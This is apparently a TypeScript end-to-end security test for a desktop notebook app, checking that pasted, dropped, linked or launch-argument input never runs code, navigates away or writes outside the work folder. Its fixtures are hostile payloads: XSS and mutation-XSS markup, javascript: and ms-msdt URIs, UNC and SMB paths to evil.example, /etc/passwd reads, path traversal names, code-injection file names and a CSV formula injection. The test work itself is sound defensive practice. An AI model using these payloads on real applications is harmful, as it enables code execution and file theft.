/** What comes from outside into a window of the desktop application otherwise than in a file: pasted, dropped, addressed, named at a start. */
import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { Desktop } from './drive-desktop.ts';

type Kinds = Readonly<Record<string, string>>;

/** What a clipboard or a drag may hold beside, or instead of, text. */
function transfers(at: string): readonly Kinds[] {
  const js = `globalThis.escaped=1;fetch('${at}/arrived')`;
  const markup = `<meta http-equiv="refresh" content="0;url=${at}/refresh"><img src="${at}/pasted" onerror="${js}"><script>${js}</script><svg onload="${js}"><style>@import url(${at}/style)</style><iframe srcdoc="<script>${js}</script>"></iframe>`;
  return [
    { 'text/html': markup },
    { 'text/html': markup, 'text/plain': '// plain' },
    {
      'text/html': `<!--StartFragment--><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    },
    { 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>` },
    { 'text/uri-list': `javascript:${js}`, 'text/html': `<a href="javascript:${js}">x</a>` },
    { 'text/uri-list': 'file:///etc/passwd\r\n\\\\evil.example\\share\\x.ipynb' },
    { 'text/x-moz-url': `${at}/moz\nx`, 'text/uri-list': `${at}/list` },
    { DownloadURL: `application/x-msdownload:x.exe:${at}/x.exe`, 'text/uri-list': `${at}/x.exe` },
    {
      'application/vnd.jupyter.cells': `[{"cell_type":"code","source":"${js}","metadata":{"trusted":true}}]`,
    },
    { 'application/vnd.code.notebook.cells': js, 'text/plain': '// cells' },
    { 'text/axis': '1e308', 'text/plain': '// axis' },
  ];
}

/** Names of files that are dropped on a cell: code that reads them is made of each. */
const droppedNames = (at: string): readonly string[] => [
  '../../../above.csv',
  '..\\..\\above.npy',
  `"); fetch("${at}/code"); (".csv`,
  `\`\${fetch('${at}/template')}\`.txt`,
  `x'*/fetch('${at}/comment')/*.csv`,
  '\u2028fetch()\u2029.csv',
  '<img src=x onerror=globalThis.escaped=1>.csv',
  '\u202evsc.exe.csv',
  '__proto__.csv',
  'constructor.txt',
  'class.csv',
  'CON.csv',
  '.profile',
  '=cmd|calc!A1.csv',
];

const addresses = (at: string): readonly string[] => [
  at,
  'file:///etc/passwd',
  'file://evil.example/share/x',
  '\\\\evil.example\\share\\x',
  'smb://evil.example/x',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x&crumb=location:\\\\evil.example',
  'vscode://file/etc/passwd',
  'mailto:a@evil.example?attach=/etc/passwd',
  'tel:1',
  'data:text/html,<script>opener.escaped=1</script>',
  'javascript:globalThis.escaped=1',
  'view-source:app://tapedeck/index.html',
  'chrome://settings',
  'devtools://devtools/bundled/inspector.html',
  'chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/x.html',
  'app://evil/index.html',
  'tapedeck://open?path=/etc/passwd',
];

/** The words of second starts, each of which is alone. */
const starts = (at: string): readonly string[] => [
  '--inspect-brk=0.0.0.0:0',
  '--remote-debugging-port=0',
  '--load-extension=/tmp/x.ipynb',
  '--work-folder=/etc',
  'tapedeck://open?path=/etc/passwd',
  'file:///etc/hostname',
  `${at}/start.ipynb`,
  '//evil.example/share/x.ipynb',
  '\\\\evil.example\\share\\x.ipynb',
  '/etc/passwd',
  '/dev/zero/x.ipynb',
  '/proc/self/fd/0/x.ipynb',
  'new\nline.ipynb',
  'nul\u0000.ipynb',
  '<img src=x onerror=globalThis.escaped=1>.ipynb',
  '__proto__.ipynb',
  `${'x'.repeat(5000)}.ipynb`,
];

/** Nothing of it runs, leads away, or lands anywhere but in the work folder; a file named at a start is shown afterwards as before. */
export async function arrive(desktop: Desktop, page: Page, at: string): Promise<void> {
  const before = { url: page.url(), home: await readdir(desktop.home) };
  const runs = (): Promise<number> => page.locator('.cell[data-runs]:not([data-runs="0"])').count();
  const ranBefore = await runs();
  await page.locator('#cell-mine .cm-content').click();
  await page.evaluate((given) => {
    const editor = document.querySelector('#cell-mine .cm-content');
    for (const kinds of given)
      for (const [target, type] of [
        [editor, 'paste'],
        [editor, 'drop'],
        [document.body, 'paste'],
        [document.body, 'drop'],
      ] as const) {
        const data = new DataTransfer();
        for (const [kind, text] of Object.entries(kinds)) data.setData(kind, text);
        const options = { bubbles: true, cancelable: true };
        target?.dispatchEvent(
          type === 'paste'
            ? new ClipboardEvent(type, { ...options, clipboardData: data })
            : new DragEvent(type, { ...options, dataTransfer: data, clientX: 400, clientY: 300 }),
        );
      }
  }, transfers(at));
  await dropFiles(page, droppedNames(at));
  await expect
    .poll(() => readdir(desktop.workFolder), { timeout: 60_000 })
    .toEqual(expect.arrayContaining(['class.csv', '=cmd-calc!A1.csv']));
  await leadAway(page, addresses(at));
  await startWith(desktop, starts(at));
  const last = join(desktop.workFolder, 'last.ipynb');
  await writeFile(last, '{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[]}');
  expect({ ran: await runs(), home: await readdir(desktop.home) }).toEqual({
    ran: ranBefore,
    home: before.home,
  });
  await startWith(desktop, [last]);
  await expect.poll(() => page.locator('.bar .file').getAttribute('title'), { timeout: 60_000 }).toBe(last);
  expect([page.url(), (await desktop.windows(1)).length]).toEqual([before.url, 1]);
}

const dropFiles = (page: Page, names: readonly string[]): Promise<void> =>
  page.evaluate((given) => {
    const dataTransfer = new DataTransfer();
    for (const name of given) dataTransfer.items.add(new File(['1,2\n'], name));
    const options = { bubbles: true, cancelable: true, dataTransfer };
    document.querySelector('#cell-mine')?.dispatchEvent(new DragEvent('drop', options));
  }, names);

/** By links and by itself; the double closes a new window only when it has opened, so there is none here. */
const leadAway = (page: Page, to: readonly string[]): Promise<void> =>
  page.evaluate((given) => {
    for (const address of given) {
      const attempt = (what: () => void): void => {
        try {
          what();
        } catch {
          // Refused at once.
        }
      };
      for (const target of ['_self', '_top'])
        attempt(() => {
          const link = Object.assign(document.createElement('a'), { href: address, target });
          document.body.append(link);
          link.click();
          link.remove();
        });
      attempt(() => location.assign(address));
    }
  }, to);

const startWith = (desktop: Desktop, words: readonly string[]): Promise<void> =>
  desktop.evaluate(({ app }, given) => {
    for (const word of given) app.emit('second-instance', {}, ['tapedeck', word], '/');
  }, words);
